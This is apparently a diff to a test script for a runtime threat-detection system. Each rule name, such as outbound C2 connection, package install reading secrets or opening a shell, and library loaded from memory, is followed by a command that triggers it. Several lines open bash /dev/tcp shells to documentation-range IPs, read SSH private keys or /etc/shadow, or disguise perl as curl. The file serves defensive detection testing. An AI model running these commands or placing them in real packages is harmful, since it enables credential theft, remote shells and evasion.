@@ -95,7 +95,7 @@ shell ssh && unshare --net sh -c 'ip link set lo up; perl -MIO::Socket::INET -e 
 # Uncommon socket family used
 call 41 40 1 0
 # Container runtime socket opened
-perl -MIO::Socket::UNIX -e 'my $p = "$ARGV[0]/docker.sock"; my $s = IO::Socket::UNIX->new(Local => $p, Listen => 1) or die; IO::Socket::UNIX->new(Peer => $p) or die' "$scratch"
+cp "$(command -v perl)" "$tools/curl" && "$tools/curl" -MIO::Socket::UNIX -e 'my $p = "$ARGV[0]/docker.sock"; my $s = IO::Socket::UNIX->new(Local => $p, Listen => 1) or die; IO::Socket::UNIX->new(Peer => $p) or die' "$scratch"; tool curl
 # PTRACE attached to process
 perl -e 'my $pid = fork; if (!$pid) { sleep 5; exit } syscall(101, 16, $pid + 0, 0, 0); waitpid $pid, 2; kill 9, $pid;'
 # PTRACE anti-debug attempt
@@ -143,9 +143,9 @@ tool xmrig && "$tools/xmrig"
 # Detect crypto miners using the Stratum protocol
 "$tools/nmap" stratum+tcp://127.0.0.1:1
 # Network Tool Executed During NPM Package Install
-"$tools/npm" -c "$tools/curl x; true"
+during_install "$tools/curl x"
 # Package installation reads secrets
-"$tools/npm" -c 'cat /root/.ssh/id_demo; true' || true; ln -f /root/.ssh/id_demo /root/.ssh/id_rsa; "$tools/npm" -c 'cat /root/.ssh/id_rsa; true'
+ln -f /root/.ssh/id_demo /root/.ssh/id_rsa; during_install 'cat /root/.ssh/id_rsa'
 # File reached under another name
 ln -sf /etc/shadow "$scratch/innocent" && cat "$scratch/innocent"
 # Program without a file started
@@ -173,7 +173,7 @@ echo 1000 >/proc/self/loginuid && call 105 0
 # Outbound connection to C2 servers
 alone 203.0.113.66 'listening 203.0.113.66 443; bash -c "exec 3<>/dev/tcp/203.0.113.66/443"'
 # Package installation opens a shell connection
-alone 203.0.113.9 'listening 203.0.113.9 4444; "$tools/npm" -c "bash -c \"exec 3<>/dev/tcp/203.0.113.9/4444\"; true"'
+alone 203.0.113.9 'listening 203.0.113.9 4444; cd "$scratch"; echo "bash -c \"exec 3<>/dev/tcp/203.0.113.9/4444\"; true" >install; "$tools/npm" install'
 # Package script changes start-up or login files
 shell dpkg && cp "$tools/dpkg" /usr/bin/dpkg && /usr/bin/dpkg -c 'echo true >>/root/.profile'
 # Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)
@@ -188,3 +188,5 @@ touch "$scratch/mounted" && mount --bind /etc/shadow "$scratch/mounted"
 perl "$acts/elf32.pl" "$tools/act32" && "$tools/act32"
 # Unexpected UDP Traffic
 alone 203.0.113.9 'perl -MIO::Socket::INET -e "IO::Socket::INET->new(Proto => q(udp), PeerAddr => q(203.0.113.9), PeerPort => 9999)"'
+# Library loaded from memory
+lib=$(ls /lib/*/libz.so.1 /usr/lib/*/libz.so.1 2>/dev/null | head -1) && perl -e 'my $n = "x"; my $fd = syscall(319, $n, 0); open my $in, "<", $ARGV[0] or die; binmode $in; local $/; my $l = <$in>; syscall(1, $fd, $l, length $l); $ENV{LD_PRELOAD} = "/proc/self/fd/$fd"; exec "/bin/true"' "$lib"
